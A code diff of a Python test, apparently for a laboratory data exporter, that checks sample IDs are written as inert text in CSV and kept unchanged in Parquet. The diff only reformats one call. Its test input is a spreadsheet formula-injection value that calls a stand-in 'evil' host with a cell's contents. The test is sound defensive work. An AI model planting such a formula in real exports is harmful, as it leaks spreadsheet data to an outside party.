@@ -53,7 +53,9 @@ def test_an_id_of_a_sample_is_never_a_formula() -> None:
     """A laboratory's file may hold any text; as CSV it is marked as text, as Parquet it is what it was."""
     drawn, text = net_values(result(), {}), '=HYPERLINK("http://evil/?"&A1)'
     samples = [SampleRow(text, 1, *["" if one != "assays" else [] for one in SampleRow._fields[2:]])]
-    found, packed = (tables.file("samples", form, result(), drawn, LABEL, samples) for form in ("csv", "parquet"))
+    found, packed = (
+        tables.file("samples", form, result(), drawn, LABEL, samples=samples) for form in ("csv", "parquet")
+    )
     (row,) = csv.DictReader(io.StringIO(found.decode(), newline=""))
 
     assert row["sample"] == "'" + text
